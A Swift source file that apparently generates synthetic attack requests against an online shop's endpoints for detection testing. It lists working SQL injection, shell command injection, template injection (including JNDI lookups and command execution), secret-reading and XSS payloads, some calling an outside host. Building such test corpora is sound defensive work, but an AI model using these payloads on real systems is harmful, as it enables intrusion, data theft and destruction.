// Attacks whose payload stands where a value of the shop's own requests belongs.

/// The shop's own requests with a payload where a value belongs: an attack looks like its victim.
enum Carriers {
    static let shapes = [
        RequestShape("GET", "/search", query: "q={payload}", weight: 6),
        RequestShape(
            "GET", "/search", query: "q={payload}&category={category}&page={small}", weight: 4),
        RequestShape("GET", "/search", query: "q={search}&lang={payload}", weight: 2),
        RequestShape(
            "GET", "/catalogue/{category}", query: "page={small}&sort={payload}", weight: 4),
        RequestShape(
            "GET", "/product/{number}", query: "colour={colour}&size={payload}", weight: 3),
        RequestShape("GET", "/product/{payload}", weight: 3),
        RequestShape("GET", "/suggest", query: "term={payload}&limit={small}", weight: 2),
        RequestShape("GET", "/account/orders", query: "from={date}&to={payload}", weight: 2),
        RequestShape("GET", "/api/v1/products", query: "ids={number},{payload}", weight: 2),
        RequestShape(
            "POST", "/login", form: "user={payload}&password={token}&remember=on", weight: 4),
        RequestShape("POST", "/login", form: "user={email}&password={payload}", weight: 3),
        RequestShape("POST", "/cart/coupon", form: "code={payload}&csrf={token}", weight: 2),
        RequestShape(
            "POST", "/checkout",
            form: "name={payload}&street={street}&city={city}&zip={postcode}&total={price}",
            weight: 2),
        RequestShape(
            "POST", "/contact", form: "name={person}&email={email}&subject=hi&message={payload}",
            weight: 2),
        RequestShape(
            "POST", "/api/v1/reviews",
            json: #"{"product":{number},"author":"{person}","text":"{payload}","stars":{small}}"#,
            weight: 3),
        RequestShape(
            "POST", "/api/v1/search",
            json: #"{"query":"{payload}","filters":{},"sort":["{order}"]}"#, weight: 2),
        RequestShape(
            "PUT", "/api/v1/account",
            json: #"{"name":"{payload}","email":"{email}","address":{"city":"{city}"}}"#),
    ]
}

/// Tautologies, unions, stacked statements, blind probes by time and by truth.
enum SQLInjection {
    static let payloads = Template.list(
        "' OR '1'='1", "' or {digit}={digit}--", "{number}' OR 'x'='x' -- -", "\") or (\"a\"=\"a",
        "admin'--", "admin' #", "') OR ('{marker}'='{marker}", "{number} OR {marker}={marker}",
        "{number}' AND '{digit}'='{digit}", "1' AND {marker}={marker}--+", "x' OR email LIKE '%@%",
        "{number} UNION SELECT {column},{column},NULL FROM {table}--",
        "' UNION ALL SELECT NULL,NULL,{column} FROM {table}-- -",
        "-{number} union select 1,2,group_concat({column},0x3a,{column}) from {table}#",
        "{number}/**/UNION/**/SELECT/**/{column}/**/FROM/**/{table}",
        "{number} /*!50000UNION*/ /*!50000SELECT*/ {column} FROM {table}",
        "'; DROP TABLE {table};--", "{number}; DELETE FROM {table} WHERE 1=1",
        "'; INSERT INTO {table} VALUES('x','y')--", "'; EXEC xp_cmdshell('{command}')--",
        "'; UPDATE {table} SET {column}='x' WHERE id={number}--",
        "{number}' AND SLEEP({digit})-- ", "' OR pg_sleep({digit})--",
        "1; WAITFOR DELAY '0:0:{digit}'--",
        "' AND (SELECT * FROM (SELECT(SLEEP({digit})))a)--",
        "1 AND BENCHMARK({marker}000,MD5({digit}))",
        "' AND ASCII(SUBSTRING((SELECT {column} FROM {table} LIMIT 1),{digit},1))>{small}--",
        "1' AND EXTRACTVALUE({marker},CONCAT(0x5c,(SELECT {column})))-- ",
        "' AND 1=CONVERT(int,(SELECT TOP 1 {column} FROM {table}))--",
        "' ORDER BY {small}--", "{number}' GROUP BY {column} HAVING 1=1--", "' || '{marker}",
        "(SELECT CASE WHEN ({marker}={marker}) THEN 1 ELSE 1/0 END)",
        "'+(select {column} from {table})+'",
        "{number}' procedure analyse(extractvalue(rand(),concat(0x3a,{column})),1)--",
        "\\' OR 1=1 -- ", "' oR/**/1/**/lIkE/**/1", "{number}%' AND 1=1 AND '%'='")
}

/// Shell metacharacters around a command.
enum CommandInjection {
    static let payloads = Template.list(
        "; {command}", "| {command}", "|| {command}", "& {command}", "&& {command}", "`{command}`",
        "$({command})", "{number}; {command};", "{number}|{command}", "\n{command}", "%0a{command}",
        "{slug}.jpg;{command}", "'; {command} #", "\"; {command}; echo \"", "{email};{command}",
        "a;{command}|a", ";{command}${IFS}", "$(printf '{command}')", "; sh -c \"{command}\"",
        "() { :;}; {command}", "{number} && cmd.exe /c {command}", "|powershell -c {command}",
        "{{{command}}}|sh", ";c''at${IFS}/etc/pas''swd", "; $(echo {command}|base64 -d)")
}

/// Expressions for the template engines and expression languages behind a page.
enum TemplateInjection {
    static let payloads = Template.list(
        "{{{digit}*{digit}}}", "${{marker}*{digit}}", "#{{marker}*{digit}}",
        "<%= {digit}*{digit} %>",
        "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__"
            + ".__import__('os').popen('{command}').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('{command}')}", "${jndi:ldap://{host}/a}",
        "${jndi:dns://{host}/{hash}}", "${${lower:j}ndi:${lower:l}dap://{host}:1389/x}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "{{self._TemplateReference__context}}", "*{T(java.lang.System).getenv()}",
        "#set($x={digit}*{digit})$x",
        "{%import os%}{{os.popen('{command}').read()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "@(1+{digit})", "{php}echo `{command}`;{/php}", "${env:AWS_SECRET_ACCESS_KEY:-x}",
        "{{constructor.constructor('{function}')()}}")
}

/// Scripts, event handlers, odd tags and schemes, and what slips past filters.
enum CrossSiteScripting {
    static let payloads = Template.list(
        "<script>{function}</script>", "\"><script>{function}</script>",
        "'><img src=x onerror={function}>",
        "<svg/onload={function}>", "<body onload={function}>", "<ScRiPt>{function}</sCrIpT>",
        "<script src=//{host}/x.js></script>", "<iframe src=\"javascript:{function}\"></iframe>",
        "javascript:{function}", "<a href=\"javascript:{function}\">x</a>",
        "\" onmouseover=\"{function}",
        "' onfocus='{function}' autofocus='", "<details open ontoggle={function}>",
        "<video><source onerror=\"{function}\"></video>", "<marquee onstart={function}>",
        "<math><mtext></mtext><script>{function}</script></math>",
        "</title><script>{function}</script>",
        "<img src=x:x onerror=\"{function}\"//>", "<input autofocus onfocus={function}>",
        "<scr<script>ipt>{function}</scr</script>ipt>", "\\\"-{function}//", "';{function}//",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<style>@import 'http://{host}/x.css';</style>",
        "<meta http-equiv=refresh content=0;url=//{host}>",
        "&lt;script&gt;{function}&lt;/script&gt;",
        "<svg><animate onbegin={function} attributeName=x>",
        "{search}<script>{function}</script>", "<form action=//{host}><input name=p></form>",
        "data:text/html,<script>{function}</script>", "<img/src/onerror={function}>")
}
